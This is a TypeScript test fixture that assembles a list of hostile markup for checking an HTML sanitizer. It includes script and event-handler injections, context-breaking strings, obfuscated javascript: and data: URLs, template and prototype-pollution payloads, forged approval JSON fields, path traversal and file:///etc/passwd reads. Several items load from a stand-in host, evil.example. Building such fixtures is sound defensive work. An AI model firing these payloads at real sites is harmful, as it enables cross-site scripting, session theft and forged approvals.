/**
 * Texts that a browser would obey if it took them for markup, script, style or an address: whoever runs one of them sets
 * `pwned`, or asks `evil.example` for something, and a test sees that.
 */

const RUN = 'window.pwned=1'
/** Where nothing may ever be asked for. */
export const AWAY = '//evil.example/x'

/** Makes several of each. */
export function every<T>(of: readonly T[], make: (one: T) => readonly string[]): string[] {
  return of.flatMap(make)
}

/** Elements that load or run something by themselves. */
const LOADING = [
  `<script>${RUN}</script>`,
  `<script src=${AWAY}></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<SCRIPT/x>${RUN}</SCRIPT >`,
  `<script type=module>import '${AWAY}'</script>`,
  `<iframe src=javascript:${RUN}></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data=${AWAY}></object>`,
  `<embed src=${AWAY}>`,
  `<link rel=stylesheet href=${AWAY}>`,
  `<link rel=prefetch href=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<base href=${AWAY}>`,
  `<form action=${AWAY}><button id=csrf name=csrf>Approve</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<style>*{background:url(${AWAY})}</style>`,
  `<style>@import '${AWAY}';</style>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<portal src=${AWAY}></portal>`,
  `<applet code=${AWAY}></applet>`,
  `<frameset onload=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<dialog open>Your node needs your seed phrase</dialog>`,
  `<img name=getElementById><img id=location><form id=document>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}></svg>`,
  `<svg><foreignObject><iframe src=javascript:${RUN}></iframe></foreignObject></svg>`,
  `<svg><image href=${AWAY}></image></svg>`,
  `<svg><style>@import '${AWAY}'</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href=javascript:${RUN}>x</math>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script>`,
  `<xss style="behavior:url(${AWAY})">`,
  `<?xml-stylesheet href="${AWAY}"?>`,
  `<!ENTITY x SYSTEM "file:///etc/passwd">`,
  `<xsl:script>${RUN}</xsl:script>`
]

/** Handlers on elements that fire them without anybody. */
const HANDLERS = every(
  [
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'details open',
    'input autofocus',
    'select autofocus',
    'object data=x',
    'p tabindex=1 id=x'
  ],
  (element) =>
    every(['onload', 'onerror', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart'], (handler) => [
      `<${element} ${handler}=${RUN}>`,
      `"><${element} ${handler}="${RUN}">`
    ])
)

/** What leaves an attribute, a script, a style, a comment or a text of JSON. */
const BREAKERS = every([`<img src=x onerror=${RUN}>`, `<script>${RUN}</script>`], (after) => [
  `">${after}`,
  `'>${after}`,
  `\`>${after}`,
  `</title>${after}`,
  `</textarea>${after}`,
  `</style>${after}`,
  `</script>${after}`,
  `-->${after}`,
  `--!>${after}`,
  `<!--><${after}`,
  `]]>${after}`,
  `<![CDATA[${after}]]>`,
  `%3E${encodeURIComponent(after)}`,
  `&lt;${after}&gt;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;${after}`,
  `\\u003c${after}`,
  `\\x3c${after}`,
  `+ADw-${after}+AD4-`,
  `\u00bc${after}\u00be`,
  `\uff1c${after}\uff1e`,
  `<\u0000${after}`,
  `${after}<!--`
]).concat([
  `" onmouseover="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `x\` onerror=\`${RUN}`,
  `";${RUN}//`,
  `';${RUN}//`,
  `\`;${RUN}//`,
  `\\";${RUN}//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{%raw%}${RUN}`,
  `[[${RUN}]]`,
  `\${{${RUN}}}`,
  '"}],"approvalId":"x","status":"approved',
  '{"__proto__":{"pwned":1}}',
  '","effect":"allow',
  'null',
  'true',
  '[object Object]',
  'undefined',
  'NaN',
  '-0',
  '1e999',
  '[]',
  '{}',
  '""',
  '\\',
  '\\\\',
  "'",
  '"',
  '`'
])

/** Addresses that run or load in the spellings that have passed filters. */
const ADDRESSES = every(
  [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    'java\r\nscript:',
    ' javascript:',
    '\u0001javascript:',
    '\u00a0javascript:',
    'javascript&colon;',
    '&#106;avascript:',
    'javascript\u0000:',
    'java\u200bscript:',
    'vbscript:',
    'livescript:',
    'view-source:javascript:',
    'feed:javascript:',
    'jar:javascript:',
    'blob:javascript:'
  ],
  (scheme) => [`${scheme}${RUN}`, `${scheme}//%0a${RUN}`, `[you](${scheme}${RUN})`]
).concat(
  every(['text/html', 'text/html;base64', 'image/svg+xml', 'application/xhtml+xml', 'text/javascript', ''], (type) => [
    `data:${type},<script>${RUN}</script>`,
    `DATA:${type},${btoa(`<script>${RUN}</script>`)}`
  ]),
  [
    AWAY,
    `http:${AWAY}`,
    `https:${AWAY}`,
    `https:\\\\evil.example\\x`,
    `///evil.example`,
    `/\\evil.example`,
    `http://127.0.0.1@evil.example/`,
    `ws:${AWAY}`,
    `file:///etc/passwd`,
    `about:blank`,
    `chrome://settings`,
    `tel:+1`,
    `mailto:x@evil.example`,
    `solana:evil?amount=1`,
    `agentlink:al1evil`,
    `#/approvals`,
    `#login=stolen`,
    `../../etc/passwd`,
    `..\\..\\x`,
    `%2e%2e%2f`,
    `/dashboard/session`,
    `![x](https:${AWAY})`,
    `[click](https:${AWAY})`,
    `<https:${AWAY}>`,
    `url(${AWAY})`,
    `@import url(${AWAY});`
  ]
)

export const HOSTILE_MARKUP: readonly string[] = [...LOADING, ...HANDLERS, ...BREAKERS, ...ADDRESSES]
